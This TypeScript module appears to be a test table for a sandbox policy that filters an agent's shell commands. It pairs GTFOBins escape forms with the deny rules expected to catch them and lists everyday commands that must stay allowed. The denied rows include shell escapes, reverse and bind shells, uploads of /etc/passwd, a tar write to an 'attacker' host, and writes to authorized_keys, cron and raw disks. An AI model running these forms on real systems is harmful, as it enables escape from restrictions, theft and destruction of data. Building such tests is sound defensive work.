/**
 * The escape table: one row per program × GTFOBins function × form, and the
 * everyday forms that must keep working. `@C@` is a canary dir (a refused form
 * that ran would leave a file there), `@D@` a data dir the operator named
 * (holding `seed`, a few lines of text), `@S@` the agent's state dir.
 * GTFOBins (gtfobins.github.io) and the programs' manuals are the reference.
 * @module
 */

/** A GTFOBins function, or "everyday" for a form that must be allowed. */
export type Fn =
  | "shell"
  | "command"
  | "reverse-shell"
  | "bind-shell"
  | "file-write"
  | "file-upload"
  | "file-download"
  | "library-load"
  | "everyday";

/**
 * [program, function, form, rule id prefix or "allow", proven]. `proven`: run
 * without the policy, the form really creates its canary file (the table test
 * checks that, so a row cannot claim an escape that is not one).
 */
export type Row = [string, Fn, string, string, boolean?];

const AWKS = ["awk", "mawk", "gawk"];

/** Awk forms, for every awk. */
const awkRows: Row[] = AWKS.flatMap((a): Row[] => [
  [a, "command", `${a} 'BEGIN{system("touch @C@/${a}-system")}'`, "deny.escape.awk.command", true],
  [
    a,
    "command",
    `${a} 'BEGIN{print "x" | "touch @C@/${a}-pipe"}'`,
    "deny.escape.awk.command",
    true,
  ],
  [
    a,
    "command",
    `${a} 'BEGIN{"touch @C@/${a}-getline" | getline}'`,
    "deny.escape.awk.command",
    true,
  ],
  [a, "shell", `${a} 'BEGIN { system ("sh") }'`, "deny.escape.awk.command"],
  [a, "file-write", `${a} 'BEGIN{print 1 > "@C@/${a}-print"}'`, "deny.escape.awk.write", true],
  [a, "file-write", `${a} 'BEGIN{printf "x" >> "@C@/${a}-append"}'`, "deny.escape.awk.write", true],
  [a, "file-write", `${a} '{print > "@C@/${a}-each"}' @D@/seed`, "deny.escape.awk.write", true],
  [
    a,
    "file-write",
    `${a} 'BEGIN { print("x") > "@C@/${a}-paren" }'`,
    "deny.escape.awk.write",
    true,
  ],
  [a, "file-write", `${a} 'BEGIN{f="@C@/${a}-var"; print 1>f}'`, "deny.escape.awk.write", true],
  [
    a,
    "reverse-shell",
    `${a} 'BEGIN{s="/inet/tcp/0/127.0.0.1/9"; print 1 |& s}'`,
    "deny.escape.awk.network",
  ],
  [a, "library-load", `${a} -f @D@/prog.awk @D@/seed`, "deny.escape.awk.load"],
  [a, "everyday", `${a} '{print $1}' @D@/seed`, "allow"],
  [a, "everyday", `${a} '$2 > 1 {print $1}' @D@/seed`, "allow"],
  [a, "everyday", `${a} '{ if ($2 > 1) print $1 }' @D@/seed`, "allow"],
  [a, "everyday", `${a} -F: '{print ($2 > 1)}' @D@/seed`, "allow"],
]);

export const ROWS: Row[] = [
  ...awkRows,
  // gawk's own ways to load code.
  ["gawk", "library-load", "gawk -l filefuncs 'BEGIN{}'", "deny.escape.awk.load"],
  ["gawk", "command", `gawk 'BEGIN{f="system"; @f("id")}'`, "deny.escape.awk.command"],
  ["mawk", "library-load", "mawk -W exec @D@/prog.awk", "deny.escape.awk.load"],

  // sed
  ["sed", "command", "sed -n '1e touch @C@/sed-e' @D@/seed", "deny.escape.sed", true],
  ["sed", "command", "sed '1s|.*|touch @C@/sed-se|e' @D@/seed", "deny.escape.sed", true],
  ["sed", "file-write", "sed -n '1w @C@/sed-w' @D@/seed", "deny.escape.sed", true],
  ["sed", "file-write", "sed 's/a/b/w @C@/sed-sw' @D@/seed", "deny.escape.sed", true],
  ["sed", "file-write", "sed -n '1W @C@/sed-W' @D@/seed", "deny.escape.sed", true],
  ["sed", "file-write", "sed --expression='1w @C@/sed-long' @D@/seed", "deny.escape.sed", true],
  ["sed", "library-load", "sed -f @D@/script.sed @D@/seed", "deny.escape.sed"],
  ["sed", "file-write", "sed -i s/a/b/ /etc/hostname", "deny.write.protected"],
  ["sed", "file-write", "sed -i s/a/b/ @S@/audit.jsonl", "deny.write.protected"],
  ["sed", "everyday", "sed -n 1p @D@/seed", "allow"],
  ["sed", "everyday", "sed 's/a/b/g' @D@/seed", "allow"],
  ["sed", "everyday", "sed -i s/alpha/ALPHA/ @D@/seed", "allow"],

  // sort
  ["sort", "command", "sort --compress-program=sh @D@/seed", "deny.escape.exec-option"],
  ["sort", "file-write", "sort -o /etc/cron.d/x @D@/seed", "deny.write.protected"],
  ["sort", "file-write", "sort --output=@S@/audit.jsonl @D@/seed", "deny.write.protected"],
  ["sort", "everyday", "sort -k2 @D@/seed", "allow"],
  ["sort", "everyday", "sort -o @D@/sorted @D@/seed", "allow"],

  // tee, cp, mv, dd: writing is their job; not onto protected paths
  ["tee", "file-write", "tee /etc/cron.d/x", "deny.write.protected"],
  ["tee", "file-write", "tee -a /root/.ssh/authorized_keys", "deny.write.protected"],
  ["tee", "file-write", "tee @S@/signing_key.jwk", "deny.write.protected"],
  ["tee", "file-write", "tee /tmp/../etc/passwd", "deny.write.protected"],
  ["tee", "file-write", "tee /dev/sda", "deny.disk"],
  ["tee", "everyday", "tee @D@/out", "allow"],
  ["cp", "file-write", "cp @D@/seed /etc/sudoers.d/x", "deny.write.protected"],
  ["cp", "file-write", "cp -t /usr/local/bin @D@/seed", "deny.write.protected"],
  ["cp", "file-write", "cp --target-directory=/root/.ssh @D@/seed", "deny.write.protected"],
  ["cp", "file-write", "cp @D@/seed @S@/seen-events", "deny.write.protected"],
  ["cp", "file-write", "cp @D@/seed /dev/sda", "deny.disk"],
  ["cp", "everyday", "cp @D@/seed @D@/copy", "allow"],
  ["cp", "everyday", "cp /etc/hostname @D@/hostname", "allow"],
  ["mv", "file-write", "mv @D@/seed /etc/", "deny.write.protected"],
  ["mv", "file-write", "mv -t /root/.ssh @D@/seed", "deny.write.protected"],
  ["mv", "file-write", "mv @D@/seed @S@/device.json", "deny.write.protected"],
  ["mv", "everyday", "mv @D@/copy @D@/moved", "allow"],
  ["dd", "file-write", "dd if=@D@/seed of=/etc/x", "deny.write.protected"],
  ["dd", "file-write", "dd if=@D@/seed of=@S@/audit.jsonl", "deny.write.protected"],
  ["dd", "file-write", "dd if=@D@/seed of=/dev/sda", "deny.disk"],
  ["dd", "everyday", "dd if=@D@/seed of=@D@/dd-out", "allow"],
  ["install", "file-write", "install @D@/seed /usr/local/bin/x", "deny.write.protected"],
  ["ln", "file-write", "ln -s @D@/seed /etc/x", "deny.write.protected"],
  ["truncate", "file-write", "truncate -s0 /var/log/auth.log", "deny.write.protected"],
  ["truncate", "file-write", "truncate -s0 @S@/audit.jsonl", "deny.write.protected"],
  [
    "split",
    "command",
    "split --filter='touch @C@/split' @D@/seed",
    "deny.escape.exec-option",
    true,
  ],
  ["split", "file-write", "split @D@/seed /etc/x", "deny.write.protected"],

  // tar
  [
    "tar",
    "command",
    "tar -cf /dev/null @D@/seed --checkpoint=1 --checkpoint-action=exec='touch @C@/tar-cp'",
    "deny.escape.tar",
    true,
  ],
  ["tar", "command", "tar -xf @D@/a.tar --to-command='touch @C@/tar-tc'", "deny.escape.tar"],
  [
    "tar",
    "command",
    "tar -cf @D@/b.tar --use-compress-program='touch @C@/tar-uc' @D@/seed",
    "deny.escape.tar",
  ],
  ["tar", "command", "tar -cIsh -f @D@/b.tar @D@/seed", "deny.escape.tar"],
  [
    "tar",
    "shell",
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh",
    "deny.escape.tar",
  ],
  ["tar", "reverse-shell", "tar -cf attacker:/tmp/x @D@/seed", "deny.network"],
  ["tar", "reverse-shell", "tar cf attacker:/tmp/x @D@/seed", "deny.network"],
  ["tar", "file-write", "tar -xf @D@/a.tar -C /etc", "deny.write.protected"],
  ["tar", "file-write", "tar czf /etc/x.tgz @D@/seed", "deny.write.protected"],
  ["tar", "file-write", "tar --create --file=@S@/x.tar @D@/seed", "deny.write.protected"],
  ["tar", "everyday", "tar -tf @D@/a.tar", "allow"],
  ["tar", "everyday", "tar -czf @D@/seed.tgz @D@/seed", "allow"],

  // zip, unzip, gzip
  [
    "zip",
    "command",
    "zip @D@/z.zip @D@/seed -T -TT 'touch @C@/zip #'",
    "deny.escape.exec-option",
    true,
  ],
  [
    "zip",
    "command",
    "zip @D@/z.zip @D@/seed -T --unzip-command='touch @C@/zip2 #'",
    "deny.escape.exec-option",
    true,
  ],
  ["zip", "file-write", "zip /etc/x.zip @D@/seed", "deny.write.protected"],
  ["zip", "everyday", "zip @D@/seed.zip @D@/seed", "allow"],
  ["unzip", "file-write", "unzip @D@/z.zip -d /etc", "deny.write.protected"],
  ["unzip", "everyday", "unzip -l @D@/z.zip", "allow"],
  ["gzip", "file-write", "gzip /etc/hostname", "deny.write.protected"],
  ["gzip", "file-write", "gzip @S@/audit.jsonl", "deny.write.protected"],
  ["gzip", "everyday", "gzip -c @D@/seed", "allow"],
  ["gzip", "everyday", "gzip -l @D@/seed.gz", "allow"],

  // find
  [
    "find",
    "command",
    "find @D@/seed -exec touch @C@/find-exec {} +",
    "deny.escape.find-exec",
    true,
  ],
  [
    "find",
    "command",
    "find @D@/seed -execdir touch @C@/find-execdir {} +",
    "deny.escape.find-exec",
    true,
  ],
  ["find", "shell", "find . -exec sh {} +", "deny.escape.find-exec"],
  ["find", "command", "find @D@ -ok touch @C@/find-ok {} +", "deny.escape.find-exec"],
  ["find", "file-write", "find @D@/seed -fprint @C@/find-fprint", "deny.escape.find-write", true],
  [
    "find",
    "file-write",
    "find @D@/seed -fprintf @C@/find-fprintf x",
    "deny.escape.find-write",
    true,
  ],
  ["find", "file-write", "find @D@/seed -fls @C@/find-fls", "deny.escape.find-write", true],
  ["find", "file-write", "find @D@ -name nothing -delete", "deny.escape.find-write"],
  ["find", "everyday", "find @D@ -name seed", "allow"],
  ["find", "everyday", "find @D@ -type f -size -1M", "allow"],

  // git
  ["git", "command", "git -c core.pager='touch @C@/git-pager' -p log", "deny.escape.git"],
  ["git", "shell", "git -p help config", "deny.escape.git"],
  ["git", "shell", "git help config", "deny.escape.git"],
  ["git", "command", "git --exec-path=@D@ version", "deny.escape.git"],
  ["git", "command", "git -C @D@ submodule foreach 'touch @C@/git-sub'", "deny.escape.git"],
  ["git", "command", "git -C @D@ bisect run touch @C@/git-bisect", "deny.escape.git"],
  ["git", "command", "git -C @D@ rebase --exec 'touch @C@/git-rebase' HEAD", "deny.escape.git"],
  ["git", "command", "git difftool", "deny.escape.git"],
  ["git", "command", "git clone -u 'touch @C@/git-clone' @D@ @D@/clone", "deny.escape.git"],
  ["git", "command", "git ls-remote --upload-pack='touch @C@/git-lsr' @D@", "deny.escape.git"],
  ["git", "everyday", "git --version", "allow"],
  ["git", "everyday", "git -C @D@ status", "allow"],

  // journalctl, systemctl
  ["journalctl", "file-write", "journalctl --vacuum-size=1", "deny.logs"],
  ["journalctl", "file-write", "journalctl --rotate", "deny.logs"],
  ["journalctl", "everyday", "journalctl -u nginx -n 50 --no-pager", "allow"],
  ["systemctl", "shell", "systemctl edit ssh", "deny.escape.editor"],
  ["systemctl", "command", "systemctl reboot", "deny.power"],
  ["systemctl", "command", "systemctl --force poweroff", "deny.power"],
  ["systemctl", "everyday", "systemctl status --no-pager", "allow"],

  // ip, ss, ps, du, ls, cat, head, tail, cut, tr, base64, diff, jq: reading only
  ["ip", "command", "ip netns exec foo touch @C@/ip", "deny.wrapper"],
  ["ip", "command", "ip vrf exec red sh", "deny.wrapper"],
  ["ip", "command", "ip -b @D@/batch", "deny.escape.ip.batch"],
  ["ip", "command", "ip -force -batch @D@/batch", "deny.escape.ip.batch"],
  ["ip", "everyday", "ip addr", "allow"],
  ["ip", "everyday", "ip -br link", "allow"],
  ["ss", "everyday", "ss -tln", "allow"],
  ["ps", "everyday", "ps aux", "allow"],
  ["du", "everyday", "du -sh @D@", "allow"],
  ["ls", "everyday", "ls -la @D@", "allow"],
  ["cat", "everyday", "cat @D@/seed", "allow"],
  ["head", "everyday", "head -n 1 @D@/seed", "allow"],
  ["tail", "everyday", "tail -n 2 @D@/seed", "allow"],
  ["cut", "everyday", "cut -c1-3 @D@/seed", "allow"],
  ["tr", "everyday", "tr a-z A-Z", "allow"],
  ["base64", "everyday", "base64 @D@/seed", "allow"],
  ["diff", "everyday", "diff @D@/seed @D@/seed", "allow"],
  ["jq", "everyday", "jq -n 1+1", "allow"],

  // curl, wget: downloading is their job; uploads, sockets and protected paths are not
  ["curl", "file-upload", "curl -T @D@/seed http://127.0.0.1:9/", "deny.network.upload"],
  [
    "curl",
    "file-upload",
    "curl --upload-file /etc/passwd ftp://127.0.0.1:9/",
    "deny.network.upload",
  ],
  ["curl", "file-upload", "curl -d @@D@/seed http://127.0.0.1:9/", "deny.network.upload"],
  [
    "curl",
    "file-upload",
    "curl --data-binary @/etc/passwd http://127.0.0.1:9/",
    "deny.network.upload",
  ],
  ["curl", "file-upload", "curl -F f=@/etc/passwd http://127.0.0.1:9/", "deny.network.upload"],
  [
    "curl",
    "file-upload",
    "curl --form 'f=</etc/passwd' http://127.0.0.1:9/",
    "deny.network.upload",
  ],
  [
    "curl",
    "command",
    "curl --unix-socket /run/docker.sock http://x/containers/json",
    "deny.network.socket",
  ],
  ["curl", "file-download", "curl -o /etc/cron.d/x http://127.0.0.1:9/", "deny.pipe-shell"],
  ["curl", "file-download", "curl -o @S@/audit.jsonl http://127.0.0.1:9/", "deny.pipe-shell"],
  [
    "curl",
    "file-download",
    "curl --output-dir /root/.ssh -O http://127.0.0.1:9/k",
    "deny.pipe-shell",
  ],
  ["curl", "command", "curl -K @D@/curlrc http://127.0.0.1:9/", "deny.pipe-shell"],
  ["curl", "everyday", "curl -sS -o @D@/page http://127.0.0.1:9/", "allow"],
  ["curl", "everyday", "curl -sI http://127.0.0.1:9/", "allow"],
  [
    "wget",
    "file-upload",
    "wget --post-file=/etc/passwd http://127.0.0.1:9/",
    "deny.network.upload",
  ],
  [
    "wget",
    "file-upload",
    "wget --body-file=@D@/seed --method=PUT http://127.0.0.1:9/",
    "deny.network.upload",
  ],
  ["wget", "file-download", "wget -O /etc/cron.d/x http://127.0.0.1:9/", "deny.pipe-shell"],
  ["wget", "file-download", "wget -P /root/.ssh http://127.0.0.1:9/k", "deny.pipe-shell"],
  ["wget", "command", "wget -e use_askpass=sh http://127.0.0.1:9/", "deny.pipe-shell"],
  ["wget", "everyday", "wget -q -O @D@/page http://127.0.0.1:9/", "allow"],

  // openssl
  ["openssl", "reverse-shell", "openssl s_client -quiet -connect 127.0.0.1:9", "deny.network"],
  ["openssl", "bind-shell", "openssl s_server -quiet -accept 9999", "deny.network"],
  ["openssl", "library-load", "openssl req -engine @D@/x.so", "deny.escape.openssl.load"],
  ["openssl", "library-load", "openssl engine -t @D@/x.so", "deny.escape.openssl.load"],
  [
    "openssl",
    "library-load",
    "openssl list -provider-path @D@ -provider x",
    "deny.escape.openssl.load",
  ],
  ["openssl", "file-write", "openssl enc -base64 -in @D@/seed -out /etc/x", "deny.write.protected"],
  ["openssl", "everyday", "openssl version", "allow"],
  ["openssl", "everyday", "openssl dgst -sha256 @D@/seed", "allow"],

  // rsync, wrappers, shells
  ["rsync", "command", "rsync -e 'touch @C@/rsync' @D@/seed x:y", "deny.escape.exec-option"],
  ["rsync", "file-write", "rsync @D@/seed /etc/x", "deny.write.protected"],
  ["xargs", "command", "xargs touch @C@/xargs", "deny.wrapper"],
  ["env", "command", "env touch @C@/env", "deny.wrapper"],
  ["timeout", "command", "timeout 5 touch @C@/timeout", "deny.wrapper"],
  ["nice", "command", "nice touch @C@/nice", "deny.wrapper"],
  ["sh", "shell", "sh -c 'touch @C@/sh'", "deny.shell"],
  ["bash", "shell", "bash -c 'touch @C@/bash'", "deny.shell"],
  ["python3", "shell", 'python3 -c \'open("@C@/py","w")\'', "deny.shell"],
  ["perl", "shell", "perl -e 'open F,\">@C@/perl\"'", "deny.shell"],
  ["less", "shell", "less @D@/seed", "deny.escape.pager"],
  ["vi", "shell", "vi @D@/seed", "deny.escape.editor"],

  // pipelines: each stage judged; what reads the pipe takes data, not commands or file names
  ["sh", "shell", "cat @D@/pipe.sh | sh -s @C@/pipe-sh", "deny.shell", true],
  ["bash", "shell", "cat @D@/pipe.sh | bash -s @C@/pipe-bash", "deny.shell", true],
  ["xargs", "command", "printf @C@/pipe-xargs | xargs touch", "deny.wrapper", true],
  [
    "awk",
    "command",
    `printf 'BEGIN{system("touch @C@/pipe-awk")}' | awk -f -`,
    "deny.escape.awk.load",
    true,
  ],
  ["sed", "command", "printf '1e touch @C@/pipe-sed' | sed -f - @D@/seed", "deny.escape.sed", true],
  ["openssl", "command", "printf 'version\\n' | openssl", "deny.pipe.commands"],
  ["tar", "file-write", "tar -cf - -C @D@ seed | tar -x -C @C@", "deny.pipe.write"],
  ["tar", "file-write", "cat @D@/a.tar | tar xf - -C @C@", "deny.pipe.write"],
  ["cpio", "file-write", "ls @D@/seed | cpio -pd @C@", "deny.pipe.write"],
  ["patch", "file-write", "cat @D@/seed | patch -p0", "deny.pipe.write"],
  ["git", "file-write", "cat @D@/seed | git apply", "deny.pipe.write"],
  ["tee", "file-write", "cat @D@/seed | tee @S@/x", "deny.write.protected"],
  ["ps", "everyday", "ps aux | grep -c .", "allow"],
  ["journalctl", "everyday", "journalctl -n 500 | grep -i error | tail -20", "allow"],
  ["sort", "everyday", "cat @D@/seed | sort -k2 -r | head -2", "allow"],
  ["cut", "everyday", "cut -d' ' -f1 @D@/seed | tr a-z A-Z", "allow"],
  ["base64", "everyday", "base64 @D@/seed | base64 -d", "allow"],
  ["tar", "everyday", "tar -cf - -C @D@ seed | tar -tv", "allow"],
  ["openssl", "everyday", "cat @D@/seed | openssl dgst -sha256", "allow"],
  ["tee", "everyday", "cat @D@/seed | tee @D@/tee-copy | wc -l", "allow"],
];
